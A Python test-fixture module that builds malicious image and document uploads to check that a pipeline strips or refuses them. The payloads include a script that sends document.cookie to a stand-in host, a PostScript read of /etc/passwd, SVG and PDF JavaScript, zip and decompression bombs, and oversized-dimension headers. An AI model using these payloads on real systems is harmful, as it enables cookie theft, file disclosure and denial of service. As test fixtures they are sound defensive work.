"""Files that were made to harm whoever opens them, drawn small enough for a test."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

SCRIPT = b"<script>fetch('https://tracker.example/'+document.cookie)</script>"
PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def drawn(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **saved: object) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size).save(file, kind, **saved)
    return file.getvalue()


def zipped(megabytes: int = 50) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("gate.jpg", bytes(megabytes * 1024 * 1024))
    return file.getvalue()


def with_text(megabytes: int) -> bytes:
    """Return a PNG whose compressed note unpacks to many megabytes."""
    note = PngImagePlugin.PngInfo()
    note.add_text("note", "a" * megabytes * 1024 * 1024, zip=True)
    return drawn("PNG", pnginfo=note)


def declared(width: int, height: int) -> bytes:
    """Return a PNG that says how large it is and holds nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def moving(kind: str, frames: int = 300) -> bytes:
    file = io.BytesIO()
    first, *others = [Image.new("RGB", (64, 48), (each % 256, 0, 0)) for each in range(frames)]
    first.save(file, kind, save_all=True, append_images=others)
    return file.getvalue()


def telling() -> bytes:
    """Return a photograph with a place, a script and a thumbnail beside its pixels."""
    exif = Image.Exif()
    exif[0x010E], exif[0x9286] = SCRIPT.decode(), SCRIPT
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    return drawn("JPEG", exif=exif, comment=SCRIPT, icc_profile=SCRIPT)


# Drawn anew, with nothing of it but the pixels; or refused.
PICTURES = {
    "a page after a photograph": drawn("JPEG") + SCRIPT,
    "an archive after a screenshot": drawn("PNG") + zipped(1),
    "a script in what is said beside the pixels": telling(),
    "a script in the comment of a GIF": drawn("GIF", comment=SCRIPT),
    "a script that begins like a GIF": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "a GIF of many frames": moving("GIF"),
    "a PNG of many frames": moving("PNG"),
    "a WEBP of many frames": moving("WEBP", 60),
    "a picture in four inks": drawn("JPEG", mode="CMYK"),
    "a picture of sixteen bits": drawn("PNG", mode="I;16"),
}
BOMBS = {
    "a PNG that declares 2 147 483 647 by 2 147 483 647": declared(2**31 - 1, 2**31 - 1),
    "a PNG that declares 60 000 by 60 000": declared(60_000, 60_000),
    "a PNG of 11 000 by 11 000": drawn("PNG", (11_000, 11_000), "1"),
    "a GIF of 60 000 by 60 000": b"GIF89a" + struct.pack("<HHBBB", 60_000, 60_000, 0, 0, 0) + b";",
    "a note that unpacks to 80 megabytes": with_text(80),
}
NO_PICTURES = {
    "an archive that unpacks without end": zipped(),
    "a drawing that can run a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a telephone's own kind": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64),
    "a printer's program": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    "a document": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "an icon": drawn("ICO"),
    "a picture of a kind nobody asked for": drawn("TIFF"),
    "another": drawn("BMP"),
    "a page": b"<!doctype html>" + SCRIPT,
    "a program": b"\x7fELF" + bytes(60),
    "a screenshot cut off": drawn("PNG", (640, 480))[:60],
}
